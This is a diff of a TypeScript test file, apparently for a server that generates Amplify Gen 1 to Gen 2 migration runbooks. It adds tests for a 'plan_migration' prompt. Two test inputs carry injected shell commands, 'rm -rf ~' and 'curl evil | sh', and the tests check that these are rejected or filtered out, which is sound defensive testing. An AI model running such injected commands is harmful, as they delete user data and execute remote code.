@@ -6,7 +6,10 @@ import { generations, today } from '../support/clients.ts';
 import { setScene } from '../support/scene.ts';
 import { appId } from './cases/case.ts';
 
-const six = ['clone', 'status', 'provision', 'import_pool', 'decommission', 'what_failed'];
+const all = [
+  ...['clone', 'status', 'provision', 'import_pool', 'decommission', 'what_failed'],
+  'plan_migration',
+];
 
 const complete = (prompt: string, name: string, value: string, given?: Record<string, string>) => ({
   ref: { type: 'ref/prompt' as const, name: prompt },
@@ -17,9 +20,9 @@ const complete = (prompt: string, name: string, value: string, given?: Record<st
 describe.each(generations)('prompts: $name', ({ connect }) => {
   const scene = setScene(connect);
 
-  it('are the six requests, with described arguments', async () => {
+  it('are the most frequent requests, with described arguments', async () => {
     const prompts = await scene.client.listPrompts();
-    expect(prompts.map(({ name }) => name)).toEqual(six);
+    expect(prompts.map(({ name }) => name)).toEqual(all);
     for (const { arguments: declared } of prompts)
       for (const argument of declared as { description: string }[])
         expect(argument.description).toMatch(/\w+/);
@@ -57,9 +60,55 @@ describe.each(generations)('prompts: $name', ({ connect }) => {
   });
 });
 
+describe('plan_migration', () => {
+  const scene = setScene(today.connect);
+  const plan = (given: Record<string, string>) => scene.client.getPrompt('plan_migration', given);
+
+  it("is the runbook with the app's own ids, from the start where nothing has begun", async () => {
+    const text = await plan({ app: 'shop', environment: 'partner' });
+    expect(text).toContain('Nothing has begun: partner has no sign of a migration. Next: step 0.');
+    expect(text).toContain(`clone_environment {"app":"${appId}","from":"partner","to":"rehearse"}`);
+    // Its user pool was imported.
+    expect(text).toContain('the copy shares them with partner (auth/shopauth)');
+    expect(text).toContain(`amplify pull --appId ${appId} --envName partner`);
+    expect(text).toContain('git checkout -b gen2-partner && amplify gen2-migration generate');
+    const titles = text.match(/^\d+\. .*$/gm) ?? [];
+    expect(titles.map(title => Number.parseInt(title, 10))).toEqual([0, 1, 2, 3, 4, 5, 6, 7, 8, 9]);
+    expect(titles.filter(title => title.endsWith('<= next'))).toEqual([titles[0]]);
+  });
+
+  it('goes on where a Gen 2 backend is deployed, with its stack', async () => {
+    const name = `amplify-${appId}-gen2dev-branch-1a2b3c4d5e`;
+    await scene.sandbox.load({
+      environment: 'live',
+      meta: { providers: { awscloudformation: { StackName: 'amplify-shop-live-40404' } } },
+      stacks: [{ name, template: { Description: '{"stackType":"root"}', Resources: {} } }],
+    });
+    const text = await plan({ app: appId, environment: 'live' });
+    expect(text).toContain('live is not locked, but the app has Gen 2 branches: gen2dev');
+    expect(text).toContain(`amplify gen2-migration refactor --to ${name} --rollback`);
+    expect(text).toContain('"branch":"gen2dev"');
+  });
+
+  it('says what is wrong with its arguments, and what could not be read', async () => {
+    await expect(plan({ app: 'nowhere', environment: 'dev' })).rejects.toThrow('no app, or more than one');
+    await expect(plan({ app: 'shop', environment: 'dev; rm -rf ~' })).rejects.toThrow('is no name');
+    const text = await plan({ app: 'shop', environment: 'nowhere' });
+    expect(text).toContain('Where it stands is unknown');
+    expect(text).toContain('has no environment nowhere');
+  });
+
+  it('lets no name of a caller into a command', async () => {
+    const text = await plan({ app: 'shop', environment: 'dev', branch: 'x; curl evil | sh' });
+    const commands = text.split('\n').filter(line => /^ {3}(?:git|amplify|npx|aws)/.test(line));
+    expect(commands.join()).not.toContain('curl');
+    expect(commands.join()).toContain('<branch>');
+  });
+});
+
 describe.each([
-  ['read-only', ['--read-only'], ['status', 'what_failed']],
-  ['one toolset of operations', ['--toolsets', 'auth'], ['import_pool']],
+  ['read-only', ['--read-only'], ['status', 'what_failed', 'plan_migration']],
+  ['one toolset of operations', ['--toolsets', 'auth'], ['import_pool', 'plan_migration']],
 ])('without some tools: %s', (_, flags, served) => {
   const scene = setScene(today.connect, flags);
 
